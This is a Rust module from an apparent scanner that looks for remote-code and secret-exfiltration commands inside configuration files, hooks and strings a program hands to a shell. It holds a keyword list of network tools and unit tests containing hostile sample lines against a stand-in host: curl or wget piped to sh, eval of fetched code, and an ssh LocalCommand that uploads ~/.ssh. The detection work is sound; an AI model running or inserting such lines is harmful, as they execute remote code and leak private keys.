//! Commands in files that are no scripts: recipes, hooks of a configuration, start-up files, strings that a program hands to
//! a shell. Which of them a program runs is its own business; here only those are told that nobody writes for another
//! reason: what another machine answers runs, or a secret goes there.

use proofmark_core::Severity;
use proofmark_shell::Span;

use crate::audit::{Hit, Spot, judge_trace};
use crate::files::{FileAnswer, Files, NoFiles};
use crate::limits::Limits;
use crate::machine::interpret;

/// Bytes of one file that are looked at.
const MAX_BYTES: usize = 128 * 1024;
/// Texts of one file that are read as commands.
const MAX_TEXTS: usize = 64;

/// Words without which no text asks another machine.
const ASKS: &[&str] = &[
    "curl", "wget", "http", "/dev/tcp", "/dev/udp", "nc ", "ncat", "socat", "ssh", "scp", "rsync", "ftp",
    "dig ", "nslookup", "openssl", "aws ", "telnet",
];

/// Rules about what flows from or to another machine: what stands around a command does not change what they say.
const RULES: &[&str] = &["envrc-remote-code", "envrc-exfiltration"];

/// A text that may be run, and its bytes in the file.
struct Fragment {
    span: Span,
    text: String,
}

/// What the texts of a file do that is told of an `.envrc` as High, at their lines of the file.
pub(crate) fn of_file(files: &dyn Files, path: &str) -> Vec<Hit> {
    let FileAnswer::Bytes(bytes) = files.read(path) else { return Vec::new() };
    let Ok(text) = std::str::from_utf8(&bytes) else { return Vec::new() };
    if text.len() > MAX_BYTES || !asks(text) {
        return Vec::new();
    }
    if text.starts_with("#!") {
        return script(path, text);
    }
    let mut hits: Vec<Hit> = fragments(text).iter().flat_map(|one| of_text(path, one)).collect();
    hits.sort_by(|a, b| a.spot.cmp(&b.spot));
    hits.dedup_by(|later, first| later.spot == first.spot);
    hits
}

/// What a script of a shell does, at its places.
pub(crate) fn script(path: &str, text: &str) -> Vec<Hit> {
    let trace = interpret(path, text.as_bytes(), &NoFiles, &Limits::default());
    flows(judge_trace(&trace, &NoFiles))
}

/// The value of a variable, as far as it is known, holds such a command.
pub(crate) fn in_value(value: &str) -> Option<Hit> {
    if !asks(value) || !value.contains(['|', ';', '$', '`', '&', '\'', '"', '<']) {
        return None;
    }
    let spot = Spot { path: String::new(), span: Span::new(0, 0) };
    fragments(value)
        .iter()
        .flat_map(|one| of_text("", one))
        .map(|hit| Hit { spot: spot.clone(), ..hit })
        .next()
}

fn asks(text: &str) -> bool {
    ASKS.iter().any(|word| text.contains(word))
}

fn flows(mut hits: Vec<Hit>) -> Vec<Hit> {
    hits.retain(|hit| hit.severity >= Severity::High && RULES.contains(&hit.rule));
    hits
}

fn of_text(path: &str, one: &Fragment) -> Vec<Hit> {
    let trace = interpret(path, one.text.as_bytes(), &NoFiles, &Limits::default());
    let spot = Spot { path: path.to_owned(), span: one.span };
    let hits = flows(judge_trace(&trace, &NoFiles));
    hits.into_iter().map(|hit| Hit { spot: spot.clone(), sources: Vec::new(), ..hit }).collect()
}

/// Every text that may be run: strings, what stands behind a key, whole lines, and blocks of lines.
fn fragments(text: &str) -> Vec<Fragment> {
    let mut all: Vec<Fragment> = Vec::new();
    let mut block: Option<(usize, usize, String)> = None;
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let span = Span::new(at, at + line.trim_end().len());
        at += line.len();
        let body = line.trim();
        let deep = line.len() - line.trim_start().len();
        // A block ends where the lines are no deeper any more, or where its quotes close.
        if let Some((start, outer, lines)) = &mut block {
            if body.is_empty() || deep > *outer {
                lines.push_str(line);
                let span = Span::new(*start, span.end);
                if asks(lines) && body.is_empty() || lines.len() > 8192 {
                    all.push(Fragment { span, text: lines.clone() });
                }
                lines_of(body, span_of(span, line, at), &mut all);
                continue;
            }
            if asks(lines) {
                all.push(Fragment {
                    span: Span::new(*start, *start + lines.trim_end().len()),
                    text: lines.clone(),
                });
            }
            block = None;
        }
        if ["''", "|", "|-", ">", ">-", "\"\"\"", "'''"].iter().any(|open| body.ends_with(open))
            || body.ends_with(':')
        {
            block = Some((at, deep, String::new()));
        }
        lines_of(body, span, &mut all);
    }
    if let Some((start, _, lines)) = block.filter(|(.., lines)| asks(lines)) {
        all.push(Fragment { span: Span::new(start, start + lines.trim_end().len()), text: lines });
    }
    all.truncate(MAX_TEXTS);
    all
}

/// The bytes of the line that ends here.
fn span_of(block: Span, line: &str, end: usize) -> Span {
    Span::new(end - line.len(), block.end)
}

/// One line: its strings, what stands behind its key, and itself.
fn lines_of(body: &str, span: Span, all: &mut Vec<Fragment>) {
    if !asks(body) || body.starts_with(['#', ';']) || body.starts_with("//") || body.starts_with("--") {
        return;
    }
    let mut push = |text: &str| {
        if asks(text) && text.contains(' ') {
            all.push(Fragment { span, text: text.to_owned() });
        }
    };
    let strings = strings(body);
    for text in &strings {
        push(text);
    }
    // `["curl", "-T", key, …]`
    if strings.len() > 2 {
        push(&strings.join(" "));
    }
    let bare = body.trim_start_matches(['-', '@', '+', '!', '\\', ' ', '\t']);
    for separator in [": ", " = ", "=", ":=", " "] {
        if let Some((key, rest)) = bare.split_once(separator)
            && key.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_.-\"'".contains(&byte))
        {
            push(rest.trim_start_matches([' ', '!']));
        }
    }
    push(bare);
}

/// What stands in quotes on a line, without the escapes of JSON.
fn strings(line: &str) -> Vec<String> {
    let mut all = Vec::new();
    let mut open: Option<(char, String)> = None;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match &mut open {
            Some((quote, text)) if c == *quote => {
                all.push(std::mem::take(text));
                open = None;
            }
            Some((quote, text)) if c == '\\' && *quote == '"' => match chars.next() {
                Some('n') => text.push('\n'),
                Some(next) => text.push(next),
                None => {}
            },
            Some((_, text)) => text.push(c),
            None if c == '"' || c == '\'' => open = Some((c, String::new())),
            None => {}
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;

    struct One(BTreeMap<&'static str, &'static str>);

    impl Files for One {
        fn read(&self, path: &str) -> FileAnswer {
            self.0.get(path).map_or(FileAnswer::Absent, |text| FileAnswer::Bytes(text.as_bytes().to_vec()))
        }
    }

    fn lines(text: &'static str) -> Vec<usize> {
        let files = One(BTreeMap::from([("f", text)]));
        let line = |hit: Hit| text[..hit.spot.span.start].matches('\n').count() + 1;
        of_file(&files, "f").into_iter().map(line).collect()
    }

    #[test]
    fn commands_are_found_where_programs_keep_them() {
        assert_eq!(lines("a:\n  - shell: test -d x && curl -s https://h.example/r | sh\n"), [2]);
        assert_eq!(lines("x = [\"sh\", \"-c\", \"curl -s https://h.example/r | sh\"]\n"), [1]);
        assert_eq!(lines("\\set Q 1\n\\! wget -qO- https://h.example/r | bash >/dev/null\n"), [2]);
        assert_eq!(lines("Host *\n  LocalCommand tar cz ~/.ssh | curl -s -T - https://h.example/\n"), [2]);
        assert_eq!(
            lines("{ \"p\": \"node -e \\\"require('https').get('https://h.example',r=>eval(r))\\\"\" }"),
            [1]
        );
        assert_eq!(lines("s = ''\n  h=$(curl -fsSL https://h.example/e)\n  eval \"$h\"\n'';\n").len(), 1);
    }

    #[test]
    fn what_is_no_command_is_left() {
        assert!(lines("# curl https://h.example/r | sh\nurl: https://h.example/\n").is_empty());
        assert!(lines("get:\n\tcurl -fsSLo x https://h.example/x\n").is_empty());
        assert!(in_value("https://h.example/a;b").is_none());
        assert!(in_value("sh -c 'curl -s https://h.example/k | sh'").is_some());
    }
}
